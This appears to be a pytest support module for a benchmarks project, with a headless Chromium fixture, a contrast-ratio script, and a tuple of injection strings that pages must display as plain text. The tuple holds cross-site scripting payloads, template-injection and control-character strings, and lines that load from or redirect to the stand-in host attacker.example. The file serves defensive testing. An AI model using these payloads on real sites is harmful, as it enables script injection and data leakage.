"""A headless browser for tests of pages, attacks that a page must show as text, and the contrast of its text."""

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from benchmarks import browser

ATTACKS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "</p></article><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1',
    "<a href='javascript:window.hit=1'>x</a>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<link rel=stylesheet href=https://attacker.example/x.css><img src=https://attacker.example/p.png>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<base href=https://attacker.example/><form action=https://attacker.example><button>x</button></form>",
    "{{ 7*7 }}{% raw %}<b>",
    "</style><script>window.hit=1</script>",
    "\u202egnirts desrever \u2066\u200b",
    "\x1b[31mred\x07 \ud800 ]]><!--",
)

needs_chromium = pytest.mark.skipif(browser.CHROMIUM is None, reason="chromium is not on the path")

CONTRAST = """() => {
  const part = v => { v /= 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4 };
  const parse = c => { const [r, g, b, a = 1] = c.match(/[\\d.]+/g).map(Number); return {r, g, b, a} };
  const light = c => 0.2126 * part(c.r) + 0.7152 * part(c.g) + 0.0722 * part(c.b);
  const back = e => {
    for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.a) return c }
    return {r: 255, g: 255, b: 255};
  };
  let least = 21;
  for (const e of document.querySelectorAll('body *')) {
    const own = [...e.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
    if (!own || !e.checkVisibility() || e.closest('.skip')) continue;
    const svg = e.closest('svg');
    const a = light(parse(svg ? getComputedStyle(e).fill : getComputedStyle(e).color)), b = light(back(e));
    least = Math.min(least, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05));
  }
  return least;
}"""
"""The least contrast of any text that is seen, as a script."""


@contextmanager
def chromium() -> Iterator[Any]:
    """Headless Chromium; the test is left out where playwright is not installed."""
    pytest.importorskip("playwright.sync_api", reason="playwright is in the dev extra")
    with browser.chromium() as started:
        yield started
